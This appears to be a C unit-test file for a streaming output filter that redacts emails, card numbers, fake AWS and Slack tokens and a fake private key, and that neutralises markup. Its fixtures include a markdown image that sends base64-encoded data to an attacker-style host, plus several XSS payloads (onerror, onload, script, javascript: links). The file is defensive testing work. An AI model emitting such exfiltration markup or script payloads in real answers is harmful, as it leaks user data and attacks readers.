/*
 * Unit tests for src/inspect/stream.c and the output-sanitisation rules: a text fed in pieces
 * of every size gives the same released text and the same findings as the whole text scanned
 * at once (redactions across piece boundaries, long words, long markup, a private key);
 * nothing after a block is released, and the blocked term never is; a word longer than the
 * hold limit blocks under a fail-closed policy; the exfil rules neutralise markdown and HTML
 * outside the allow-list and leave allowed hosts alone; canaries are found.
 */
#include "../check.h"

#include <stdio.h>
#include <string.h>

#include "core/err.h"
#include "inspect/inspect.h"
#include "inspect/stream.h"

static struct cst_insp_policy *
policy(const char *json)
{
	struct cst_insp_policy *p = NULL;
	json_t *cfg = json ? json_loads(json, 0, NULL) : NULL;
	char err[256];

	if (cst_insp_policy_new(cfg, &p, err, sizeof(err)) != 0)
		print_error("policy: %s\n", err);
	json_decref(cfg);
	return p;
}

struct streamed {
	char *text;
	size_t len;
	char found[4096];	/* "rule@start-end" of every finding, in report order */
	bool blocked;
	enum cst_insp_cat block_cat;
};

/* Feeds text in pieces of the given sizes (cycled), then the final empty piece. */
static void
run_stream(struct cst_insp_policy *p, struct cst_insp_ctx *c, const char *text,
    const size_t *sizes, size_t n_sizes, struct streamed *o)
{
	struct cst_insp_stream *s = NULL;
	struct cst_insp_stream_out out;
	size_t len = strlen(text), pos = 0, k = 0, fk = 0, i;
	bool final = false;

	memset(o, 0, sizeof(*o));
	o->text = calloc(1, 4 * len + 1024);
	CHECK_INT("stream_new", cst_insp_stream_new(p, CST_INSP_OUTPUT, false, &s), 0);
	while (!final) {
		size_t n = sizes[k++ % n_sizes];

		if (n > len - pos)
			n = len - pos;
		final = pos + n == len;
		CHECK_INT("feed", cst_insp_stream_feed(s, c, text + pos, n, final ? CST_INSP_FINAL :
		    CST_INSP_MORE, &out), 0);
		pos += n;
		memcpy(o->text + o->len, out.text, out.len);
		o->len += out.len;
		for (i = 0; i < out.n_findings && fk < sizeof(o->found); i++)
			fk += (size_t)snprintf(o->found + fk, sizeof(o->found) - fk, "%s@%zu-%zu ",
			    out.findings[i].rule, out.findings[i].start, out.findings[i].end);
		if (out.blocked) {
			o->blocked = true;
			o->block_cat = out.block_cat;
			break;
		}
	}
	/* after the end or a block, nothing more */
	CHECK_INT("feed after", cst_insp_stream_feed(s, c, "x", 1, CST_INSP_FINAL, &out), 0);
	CHECK_INT("nothing after", (long long)out.len, 0);
	cst_insp_stream_free(s);
}

/* The whole-text findings as run_stream writes them. */
static void
whole(struct cst_insp_ctx *c, const char *text, struct cst_insp_result *r, char *found,
    size_t cap)
{
	size_t i, fk = 0;

	CHECK_INT("scan", cst_insp_scan(c, CST_INSP_OUTPUT, text, strlen(text), r), 0);
	found[0] = '\0';
	for (i = 0; i < r->n_findings && fk < cap; i++)
		fk += (size_t)snprintf(found + fk, cap - fk, "%s@%zu-%zu ", r->findings[i].rule,
		    r->findings[i].start, r->findings[i].end);
}

static const char *
filler(int i)
{
	static const char *const w[] = { "the", "model", "answered", "with", "a", "plan", "for",
		"next", "quarter's", "budget,", "and", "then", "listed", "steps." };

	return w[i % 14];
}

/* A long answer with findings of every kind spread through filler text. */
static char *
answer(void)
{
	static const char *const items[] = {
		"Contact bob.smith@example.com for details.",
		"Card on file: 4111 1111 1111 1111 (expires soon).",
		"Key AKIAIOSFODNN7EXAMPLQ was used.",
		"![logo of the company, a long description that goes on for quite a while and "
		"then some more words so that it is longer than one window of the stream "
		"inspection, which holds two hundred and fifty six bytes by default, so the "
		"markup must be held open by the opener rule](https://evil.example.net/p.png?"
		"d=c2VjcmV0IGRhdGEgaGVyZQ)",
		"See <img src=x onerror=alert(1)> here.",
		"A safe [link](https://docs.example.org/guide) stays.",
		"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq4Xq5Zs1Yx0mJ3m5pL2kY9bD8cQ1xJv0Rr"
		"T2nV5sW8uH3yE6aF4gK1lM7oN9pQ0rS2tU3vW5xY7zA1bC3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3x\n"
		"Y5zA7bC9dE1fG3hI5jK7lM9nO1pQ3rS5tU7vW9xY1zA3bC5dE7fG9hI1jK3lM5nO7pQ9rS1tU3vW5\n"
		"-----END RSA PRIVATE KEY-----",
		"Token " "xoxb-123456789012-1234567890123-abcdefghijABCDEFGHIJklmn" " leaked.",
	};
	size_t cap = 64 * 1024, k = 0, i;
	char *t = malloc(cap);
	int w = 0;

	for (i = 0; i < N_ELEM(items); i++) {
		int j;

		for (j = 0; j < 40 + (int)i * 7; j++)
			k += (size_t)snprintf(t + k, cap - k, "%s ", filler(w++));
		k += (size_t)snprintf(t + k, cap - k, "%s ", items[i]);
	}
	for (i = 0; i < 30; i++)
		k += (size_t)snprintf(t + k, cap - k, "%s ", filler(w++));
	return t;
}

static void
test_pieces_equal_whole(void **state)
{
	static const char cfg[] = "{\"output\": {\"sanitize\": {\"allow_hosts\": "
	    "[\"*.example.org\"]}}}";
	static const size_t sizes[][5] = { { 1 }, { 2 }, { 3 }, { 7 }, { 13, 1, 40, 2, 5 },
		{ 64 }, { 300 }, { 4096 } };
	struct cst_insp_policy *p = policy(cfg);
	struct cst_insp_ctx *c = NULL;
	struct cst_insp_result r;
	struct streamed o;
	char *text = answer(), found[4096], *want;
	size_t i, want_len;

	(void)state;
	CHECK("policy", p != NULL);
	CHECK_INT("ctx", cst_insp_ctx_new(p, &c), 0);
	whole(c, text, &r, found, sizeof(found));
	CHECK("rewritten", r.rewritten && !r.blocked && r.complete);
	want = malloc(r.len + 1);
	memcpy(want, r.text, r.len);
	want[r.len] = '\0';
	want_len = r.len;
	/* every kind of finding is there, and each one only once */
	CHECK("email", strstr(found, "pii.email") != NULL);
	CHECK("card", strstr(found, "pii.credit_card") != NULL);
	CHECK("aws", strstr(found, "secret.aws_access_key_id") != NULL);
	CHECK("image", strstr(found, "exfil.markdown_url") != NULL);
	CHECK("img tag", strstr(found, "exfil.html_tag") != NULL);
	CHECK("handler", strstr(found, "exfil.html_event_handler") != NULL);
	CHECK("private key", strstr(found, "secret.private_key") != NULL);
	CHECK("slack", strstr(found, "secret.slack_token") != NULL);
	CHECK("allowed link", strstr(want, "[link](https://docs.example.org/guide)") != NULL);
	CHECK("image neutralised", strstr(want, "] (https://evil.example.net") != NULL);
	CHECK("tag neutralised", strstr(want, "&lt;img src=x onerror") != NULL);
	CHECK("email redacted", strstr(want, "bob.smith") == NULL);
	for (i = 0; i < N_ELEM(sizes); i++) {
		char name[32];
		size_t n = 0;

		while (n < 5 && sizes[i][n] != 0)
			n++;
		snprintf(name, sizeof(name), "pieces of %zu", sizes[i][0]);
		run_stream(p, c, text, sizes[i], n, &o);
		CHECK(name, !o.blocked);
		if (o.len != want_len || memcmp(o.text, want, want_len) != 0) {
			print_error("%s: streamed text differs\n--- stream\n%.*s\n--- whole\n%.*s\n",
			    name, (int)o.len, o.text, (int)want_len, want);
			fail();
		}
		CHECK_STR(name, o.found, found);
		free(o.text);
	}
	free(want);
	free(text);
	cst_insp_ctx_free(c);
	cst_insp_policy_free(p);
}

/*
 * A card after a hundred digit groups: every rescan starts somewhere else in them, and a
 * candidate that fails Luhn must not swallow the card, so each piece size releases the text
 * the whole scan rewrites.
 */
static void
test_digit_groups(void **state)
{
	static const size_t sizes[] = { 1, 7, 64 };
	struct cst_insp_policy *p = policy("{\"output\": {\"pii\": {\"action\": \"redact\"}}}");
	struct cst_insp_ctx *c = NULL;
	struct cst_insp_result r;
	struct streamed o;
	char text[1024], found[512], want[1024];
	size_t k = 0, i, want_len;

	(void)state;
	CHECK("policy", p != NULL);
	CHECK_INT("ctx", cst_insp_ctx_new(p, &c), 0);
	k += (size_t)snprintf(text + k, sizeof(text) - k, "Numbers: ");
	for (i = 0; i < 100; i++)
		k += (size_t)snprintf(text + k, sizeof(text) - k, "4005 ");
	k += (size_t)snprintf(text + k, sizeof(text) - k, "4111 1111 1111 1111");
	for (i = 0; i < 12; i++)
		k += (size_t)snprintf(text + k, sizeof(text) - k, " 4005");
	snprintf(text + k, sizeof(text) - k, " end.");
	whole(c, text, &r, found, sizeof(found));
	CHECK("the card redacted whole", r.rewritten && r.len < sizeof(want) && memmem(r.text,
	    r.len, "4005 [REDACTED:CREDIT_CARD] 4005", 32) != NULL);
	memcpy(want, r.text, r.len);	/* the context's buffer: the streams reuse it */
	want_len = r.len;
	for (i = 0; i < N_ELEM(sizes); i++) {
		run_stream(p, c, text, &sizes[i], 1, &o);
		CHECK("streamed as whole", !o.blocked && o.len == want_len &&
		    memcmp(o.text, want, want_len) == 0);
		free(o.text);
	}
	cst_insp_ctx_free(c);
	cst_insp_policy_free(p);
}

static void
test_block_stops(void **state)
{
	static const char cfg[] = "{\"output\": {\"denied\": {\"action\": \"block\", "
	    "\"words\": [\"project nightingale\"]}}}";
	static const size_t one[] = { 1 }, five[] = { 5 };
	struct cst_insp_policy *p = policy(cfg);
	struct cst_insp_ctx *c = NULL;
	struct streamed o;
	char text[4096];
	size_t k = 0, i;

	(void)state;
	CHECK("policy", p != NULL);
	CHECK_INT("ctx", cst_insp_ctx_new(p, &c), 0);
	for (i = 0; i < 120; i++)
		k += (size_t)snprintf(text + k, sizeof(text) - k, "%s ", filler((int)i));
	k += (size_t)snprintf(text + k, sizeof(text) - k, "The codename is Project\n"
	    "Nightingale and it ships in May. ");
	for (i = 0; i < 120; i++)
		k += (size_t)snprintf(text + k, sizeof(text) - k, "%s ", filler((int)i));
	run_stream(p, c, text, one, 1, &o);
	CHECK("blocked", o.blocked && o.block_cat == CST_INSP_DENIED);
	CHECK("some text went out before", o.len > 300);
	CHECK("the term never", memmem(o.text, o.len, "Project", 7) == NULL);
	CHECK("nothing after", memmem(o.text, o.len, "ships", 5) == NULL);
	free(o.text);
	run_stream(p, c, text, five, 1, &o);
	CHECK("blocked (5)", o.blocked && memmem(o.text, o.len, "Project", 7) == NULL);
	free(o.text);
	cst_insp_ctx_free(c);
	cst_insp_policy_free(p);
}

/*
 * Feeds the pieces, each with its mode; the released text into got (cap bytes), the findings'
 * rules into rules. Whether the stream blocked.
 */
static bool
feed_modes(struct cst_insp_policy *p, struct cst_insp_ctx *c, const char *const *pieces,
    const enum cst_insp_feed *modes, size_t n, char *got, size_t cap)
{
	struct cst_insp_stream *s = NULL;
	struct cst_insp_stream_out out;
	size_t i, k = 0;
	bool blocked = false;

	CHECK_INT("stream_new", cst_insp_stream_new(p, CST_INSP_OUTPUT, false, &s), 0);
	for (i = 0; i < n && !blocked; i++) {
		CHECK_INT("feed", cst_insp_stream_feed(s, c, pieces[i], strlen(pieces[i]), modes[i],
		    &out), 0);
		CHECK("room", k + out.len < cap);
		memcpy(got + k, out.text, out.len);
		k += out.len;
		blocked = out.blocked;
	}
	got[k] = '\0';
	if (!blocked)
		CHECK("nothing held", cst_insp_stream_held(s) == 0);
	cst_insp_stream_free(s);
	return blocked;
}

/*
 * A flush releases everything held and keeps the stream open: later text is inspected with
 * the released tail, and a finding that begins in text already released blocks (its start
 * went out before it could be decided), whatever its action; one wholly in the later text is
 * rewritten as usual.
 */
static void
test_flush(void **state)
{
	static const char cfg[] = "{\"output\": {\"denied\": {\"action\": \"block\", "
	    "\"words\": [\"project nightingale\"]}, \"secrets\": {\"action\": \"redact\"}, "
	    "\"pii\": {\"action\": \"redact\"}}}";
	static const enum cst_insp_feed fm[] = { CST_INSP_FLUSH, CST_INSP_MORE, CST_INSP_FINAL };
	static const char *const denied[] = { "We discuss Project ", "Nightingale details.", "" };
	static const char *const key[] = { "The key is AKIAZ7QWE", "RTY3456ABCD, done.", "" };
	static const char *const mail[] = { "Hello there. ", "Write to bob.smith@example.com now",
		"" };
	struct cst_insp_policy *p = policy(cfg);
	struct cst_insp_ctx *c = NULL;
	char got[512];

	(void)state;
	CHECK("policy", p != NULL);
	CHECK_INT("ctx", cst_insp_ctx_new(p, &c), 0);
	CHECK("a denied phrase across the flush blocks", feed_modes(p, c, denied, fm, 3, got,
	    sizeof(got)) && strcmp(got, "We discuss Project ") == 0);
	CHECK("a key across the flush blocks", feed_modes(p, c, key, fm, 3, got, sizeof(got)) &&
	    strcmp(got, "The key is AKIAZ7QWE") == 0);
	CHECK("after the flush, rewritten as usual", !feed_modes(p, c, mail, fm, 3, got,
	    sizeof(got)) && strcmp(got, "Hello there. Write to [REDACTED:EMAIL_ADDRESS] now") == 0);
	cst_insp_ctx_free(c);
	cst_insp_policy_free(p);
}

static void
test_hold_limit(void **state)
{
	static const size_t sizes[] = { 512 };
	struct cst_insp_policy *closed = policy("{\"output\": {\"stream\": {\"max_hold\": 4096}}}");
	struct cst_insp_policy *open = policy("{\"fail_closed\": false, \"output\": {\"stream\": "
	    "{\"max_hold\": 4096}}}");
	struct cst_insp_ctx *c = NULL;
	struct streamed o;
	char *text = malloc(20001);

	(void)state;
	CHECK("policies", closed != NULL && open != NULL);
	memset(text, 'a', 20000);
	text[20000] = '\0';
	CHECK_INT("ctx", cst_insp_ctx_new(closed, &c), 0);
	run_stream(closed, c, text, sizes, 1, &o);
	CHECK("fail closed", o.blocked && o.block_cat == CST_INSP_N_CAT && o.len == 0);
	free(o.text);
	cst_insp_ctx_free(c);
	CHECK_INT("ctx", cst_insp_ctx_new(open, &c), 0);
	run_stream(open, c, text, sizes, 1, &o);
	CHECK("released", !o.blocked && o.len == 20000);
	free(o.text);
	cst_insp_ctx_free(c);
	cst_insp_policy_free(closed);
	cst_insp_policy_free(open);
	free(text);
}

/* One text through the output policy: its rewritten form. */
static void
expect_out(struct cst_insp_ctx *c, const char *text, const char *want)
{
	struct cst_insp_result r;

	CHECK_INT(text, cst_insp_scan(c, CST_INSP_OUTPUT, text, strlen(text), &r), 0);
	if (r.len != strlen(want) || memcmp(r.text, want, r.len) != 0) {
		print_error("text  %s\n  got  %.*s\n  want %s\n", text, (int)r.len, r.text, want);
		fail();
	}
}

static void
test_sanitize(void **state)
{
	struct cst_insp_policy *p = policy("{\"output\": {\"sanitize\": {\"allow_hosts\": "
	    "[\"cdn.example.com\", \"*.corp.example\"]}, \"canaries\": {\"action\": \"redact\", "
	    "\"strings\": [\"CANARY-5f2e9c1d\"]}}}");
	struct cst_insp_policy *rm = policy("{\"output\": {\"sanitize\": {\"action\": \"remove\"}}}");
	struct cst_insp_ctx *c = NULL;

	(void)state;
	CHECK("policies", p != NULL && rm != NULL);
	CHECK_INT("ctx", cst_insp_ctx_new(p, &c), 0);
	expect_out(c, "![x](https://evil.test/a.png?q=secret)", "![x] (https://evil.test/a.png?q=secret)");
	expect_out(c, "![x](<https://evil.test/a b.png>)", "![x] (&lt;https://evil.test/a b.png>)");
	expect_out(c, "![x](//evil.test/p)", "![x] (//evil.test/p)");
	expect_out(c, "![x](/\\evil.test/p)", "![x] (/\\evil.test/p)");
	expect_out(c, "![x](https://evil.test:8443/p)", "![x] (https://evil.test:8443/p)");
	expect_out(c, "![x](https://cdn.example.com:443/a.png)", "![x](https://cdn.example.com:443/a.png)");
	expect_out(c, "![x](https://cdn.example.com/a.png)", "![x](https://cdn.example.com/a.png)");
	expect_out(c, "![x](https://CDN.Example.com./a.png)", "![x](https://CDN.Example.com./a.png)");
	expect_out(c, "[w](https://wiki.corp.example/p?id=1)", "[w](https://wiki.corp.example/p?id=1)");
	expect_out(c, "[w](https://corp.example.evil.test/p)", "[w] (https://corp.example.evil.test/p)");
	expect_out(c, "[a](images/a.png) and [b](#top)", "[a](images/a.png) and [b](#top)");
	expect_out(c, "[x](javascript:alert(1))", "[x] (unsafe:javascript:alert(1))");
	expect_out(c, "[x](&#106;avascript:alert(1))", "[x] (&#106;avascript:alert(1))");
	expect_out(c, "![a][r]\n\n[r]: https://evil.test/x?d=1\n", "![a][r]\n\n[r] : https://evil.test/x?d=1\n");
	expect_out(c, "<https://evil.test/?q=1>", "&lt;https://evil.test/?q=1>");
	expect_out(c, "<a href=\"https://evil.test/x\">go</a>", "&lt;a href=\"https://evil.test/x\">go</a>");
	expect_out(c, "<a href=\"https://cdn.example.com/x\">go</a>", "<a href=\"https://cdn.example.com/x\">go</a>");
	expect_out(c, "<script>alert(1)</script>", "&lt;script>alert(1)</script>");
	expect_out(c, "<svg/onload=alert(1)>", "&lt;svg/onload=alert(1)>");
	expect_out(c, "<div onclick=\"x()\">", "&lt;div onclick=\"x()\">");
	expect_out(c, "<p style=\"x\">ok</p> a < b", "<p style=\"x\">ok</p> a < b");
	expect_out(c, "the leaked CANARY-5f2e9c1d here", "the leaked [REDACTED:CANARY] here");
	cst_insp_ctx_free(c);
	CHECK_INT("ctx", cst_insp_ctx_new(rm, &c), 0);
	expect_out(c, "see ![x](https://evil.test/a.png?q=1) now", "see  now");
	cst_insp_ctx_free(c);
	cst_insp_policy_free(p);
	cst_insp_policy_free(rm);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_pieces_equal_whole),
		cmocka_unit_test(test_block_stops),
		cmocka_unit_test(test_digit_groups),
		cmocka_unit_test(test_flush),
		cmocka_unit_test(test_hold_limit),
		cmocka_unit_test(test_sanitize),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
